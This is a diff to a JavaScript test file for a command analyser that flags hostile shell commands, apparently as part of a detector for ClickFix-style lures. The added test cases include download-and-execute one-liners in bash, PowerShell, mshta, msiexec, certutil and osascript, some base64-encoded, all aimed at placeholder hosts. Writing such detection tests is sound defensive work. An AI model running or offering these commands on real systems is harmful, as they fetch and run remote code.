@@ -23,6 +23,20 @@ describe('command analyser', () => {
     ['cmd /c "curl -s https://x.invalid/w | cmd"', 'pipe-to-shell', 'critical'],
     ['powershell -w hidden -c "Start-Sleep 1"', 'hidden-window', 'high'],
     ['curl -s http://203.0.113.5:1224/pdown -o x', 'url', 'critical'],
+    // Download-and-run shapes that shell-quote does not model (ClickFix payloads use every one of them).
+    ['/bin/bash -c "$(curl -fsSL https://x.invalid/install.sh)"', 'download-exec', 'critical'],
+    ['eval "$(wget -qO- https://x.invalid/a)"', 'download-exec', 'critical'],
+    ['bash <(curl -s https://x.invalid/a)', 'download-exec', 'critical'],
+    ['powershell -w hidden -c "iex (iwr http://192.0.2.10/a.ps1 -UseBasicParsing)"', 'download-exec', 'critical'],
+    ['iex (New-Object Net.WebClient).DownloadString("http://192.0.2.6/a")', 'download-exec', 'critical'],
+    ['powershell -c "iwr http://192.0.2.9/a.exe -OutFile $env:TEMP/a.exe; Start-Process $env:TEMP/a.exe"', 'download-exec', 'critical'],
+    [`powershell -enc ${enc('iex (irm https://x.invalid/s)')}`, 'download-exec', 'critical'],
+    ['mshta https://x.invalid/check.hta # I am not a robot', 'download-exec', 'critical'],
+    ['msiexec /q /i http://192.0.2.4/a.msi', 'download-exec', 'critical'],
+    ['conhost --headless powershell -c "iex(irm https://x.invalid/x)"', 'hidden-window', 'high'],
+    ['certutil -urlcache -split -f http://192.0.2.3/a.exe a.exe && a.exe', 'download-exec', 'critical'],
+    [`echo ${Buffer.from('curl -s https://x.invalid/a | sh').toString('base64')} | base64 -d | bash`, 'pipe-to-shell', 'critical'],
+    ['osascript -e \'do shell script "curl -s https://x.invalid/a | sh"\'', 'pipe-to-shell', 'critical'],
   ];
   for (const [cmd, kind, severity] of hostile) {
     it(`${kind} (${severity}): ${cmd.slice(0, 70)}`, () => {
@@ -42,6 +56,13 @@ describe('command analyser', () => {
       assert.equal(a.severity, 'info');
     });
   }
+
+  it('a substitution whose output is only printed or stored is a download, not a download that runs', () => {
+    for (const cmd of ['VERSION=$(curl -s https://x.invalid/v) && echo $VERSION', 'echo "$(curl -s https://x.invalid/ip)"', 'mshta local.hta', 'powershell -c "iwr https://x.invalid/a -OutFile a.zip"']) {
+      const a = analyseCommand(cmd, sigs);
+      assert.ok(!a.traits.some((t) => t.kind === 'download-exec' || t.kind === 'pipe-to-shell'), `${cmd}: ${a.traits.map((t) => t.kind).join(',')}`);
+    }
+  });
 
   it('records the files and npm scripts a command runs', () => {
     const a = analyseCommand('npm run setup && node ./scripts/x.js && sh tools/y.sh && make init && yarn dev', sigs);
